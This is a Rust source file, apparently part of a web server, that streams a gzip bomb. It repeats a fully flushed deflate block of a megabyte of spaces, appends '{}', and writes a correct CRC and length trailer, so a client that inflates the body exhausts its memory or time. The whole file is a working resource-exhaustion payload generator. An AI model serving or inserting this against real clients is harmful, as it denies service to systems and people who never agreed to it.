//! A gzip bomb: one compressed block of white space, said over and over.

use std::iter;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

/// What a block decodes to, in bytes.
const BLOCK: usize = 1 << 20;

/// Magic number, deflate, no flags, no time, fastest, unknown system.
const HEADER: &[u8] = b"\x1f\x8b\x08\0\0\0\0\0\x04\xff";

/// What follows the white space, so that a client without a limit gets what it can read.
const END: &[u8] = b"{}";

/// The body in pieces; each is made when it is asked for.
pub(crate) fn pieces(decoded: u64) -> impl Iterator<Item = Bytes> {
    let spaces = vec![b' '; BLOCK];
    let blocks = decoded.div_ceil(BLOCK as u64);
    // A full flush forgets what went before, so that the block may stand anywhere.
    let block = Bytes::from(deflated(&spaces, FlushCompress::Full));
    let end = iter::once_with(move || end(&spaces, blocks));
    iter::once(Bytes::from_static(HEADER)).chain((0..blocks).map(move |_| block.clone())).chain(end)
}

fn deflated(data: &[u8], flush: FlushCompress) -> Vec<u8> {
    // White space shrinks to a thousandth: it all fits in one go.
    let mut block = Vec::with_capacity(BLOCK / 16);
    let mut deflate = Compress::new(Compression::best(), false);
    // Only a compressor that was given a dictionary of the wrong kind fails.
    let _ = deflate.compress_vec(data, &mut block, flush);
    block
}

/// The last block, and the checksum and length that gzip ends with.
fn end(spaces: &[u8], blocks: u64) -> Bytes {
    let of = |data: &[u8]| {
        let mut crc = Crc::new();
        crc.update(data);
        crc
    };
    let (mut sum, block) = (Crc::new(), of(spaces));
    for _ in 0..blocks {
        sum.combine(&block);
    }
    sum.combine(&of(END));
    let mut end = deflated(END, FlushCompress::Finish);
    end.extend_from_slice(&sum.sum().to_le_bytes());
    end.extend_from_slice(&sum.amount().to_le_bytes());
    Bytes::from(end)
}
